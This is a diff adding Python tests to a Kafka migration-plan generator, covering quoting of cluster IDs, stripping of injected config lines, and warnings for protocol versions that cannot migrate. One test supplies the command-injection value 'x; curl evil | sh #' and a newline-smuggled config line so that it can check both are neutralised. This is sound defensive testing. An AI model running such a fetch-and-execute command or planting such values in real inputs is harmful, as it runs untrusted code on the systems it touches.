@@ -3,6 +3,8 @@
 import re
 from dataclasses import replace
 
+import pytest
+
 from kwire.migration.plan import PlanInput, PlannedBroker, PlannedController, migration_plan
 from kwire.migration.plan_files import MigrationStep, order_text, plan_files
 
@@ -37,6 +39,35 @@ def test_an_id_that_begins_with_a_hyphen_is_no_option_of_kafkas_tool() -> None:
     """One in 64 does; `kafka-storage.sh format -t -gxu...` fails: "expected one argument"."""
     commands = steps()["1-controllers"].actions
     assert any(" --cluster-id=3Db5QLSqSZieL3rJBUUegA " in command for command in commands)
+
+
+def test_what_others_wrote_is_one_word_of_a_command_and_one_line_of_a_file() -> None:
+    known = replace(KNOWN, cluster_id="x; curl evil | sh #")
+    actions = migration_plan(known)[0].actions
+    assert any(" --cluster-id='x; curl evil | sh #' " in action for action in actions)
+
+    silent = replace(BROKER, unknown="line one\nauto.create=evil", protocols={"A\rB": "SSL"})
+    (file,) = steps(silent)["2-brokers-in-migration-mode"].files
+    assert "auto.create=evil" not in file.text.splitlines()
+    assert "\r" not in file.text
+
+
+@pytest.mark.parametrize(
+    ("version", "warning"),
+    [
+        ("3.3-IV3", "below 3.4"),
+        ("2.8", "below 3.4"),
+        ("3.4-IV0", "several log.dirs need"),
+        ("3.7-IV1", "several log.dirs need"),
+        ("3.7-IV2", ""),
+        ("3.7", ""),
+    ],
+)
+def test_a_version_that_does_not_migrate_is_warned_of(version: str, warning: str) -> None:
+    configs = {"inter.broker.protocol.version": version, "log.dirs": "/a,/b"}
+    (file,) = steps(replace(BROKER, configs=configs))["2-brokers-in-migration-mode"].files
+    assert warning in file.warning
+    assert bool(file.warning) is bool(warning)
 
 
 def test_controllers_know_zookeeper_until_they_finalise() -> None:
